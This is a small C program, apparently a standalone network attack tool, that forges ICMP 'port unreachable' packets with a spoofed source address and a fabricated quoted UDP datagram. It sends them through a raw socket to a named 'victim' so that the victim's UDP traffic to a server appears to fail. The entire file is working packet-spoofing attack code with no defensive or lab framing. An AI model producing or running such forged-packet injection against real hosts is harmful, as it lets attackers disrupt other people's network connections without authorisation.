/*
 * forge SOURCE VICTIM PORT SERVER SERVER_PORT: sends VICTIM an ICMP "port unreachable" that claims
 * to come from SOURCE and quotes a datagram from VICTIM's PORT to SERVER_PORT of SERVER. Needs a
 * raw socket.
 */
#define _DEFAULT_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

enum { IP = 20, ICMP = 8, UDP = 8, ALL = IP + ICMP + IP + UDP };

static uint16_t sum_of(const uint8_t *octets, size_t len)
{
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)octets[i] << 8 | octets[i + 1];
    while (sum > 0xffff)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void put(uint8_t *at, unsigned value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

/* | 45 00 | length | 00 00 00 00 | TTL 64 | protocol | sum | source | destination | */
static void ip_header(
    uint8_t *at, unsigned len, uint8_t protocol, const char *source, const char *destination)
{
    at[0] = 0x45;
    put(at + 2, len);
    at[8] = 64;
    at[9] = protocol;
    if (inet_pton(AF_INET, source, at + 12) != 1 || inet_pton(AF_INET, destination, at + 16) != 1)
        exit(2);
    put(at + 10, sum_of(at, IP));
}

int main(int argc, char **argv)
{
    uint8_t octets[ALL] = {0};
    struct sockaddr_in to = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (argc != 6 || fd < 0 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
        return 2;
    uint8_t *icmp = octets + IP, *quoted = icmp + ICMP, *udp = quoted + IP;
    ip_header(octets, ALL, IPPROTO_ICMP, argv[1], argv[2]);
    ip_header(quoted, IP + UDP, IPPROTO_UDP, argv[2], argv[4]);
    put(udp, (unsigned)atoi(argv[3]));
    put(udp + 2, (unsigned)atoi(argv[5]));
    put(udp + 4, UDP);
    icmp[0] = icmp[1] = 3; /* destination, port unreachable */
    put(icmp + 2, sum_of(icmp, ALL - IP));
    return sendto(fd, octets, ALL, 0, (struct sockaddr *)(void *)&to, sizeof to) == ALL ? 0 : 1;
}
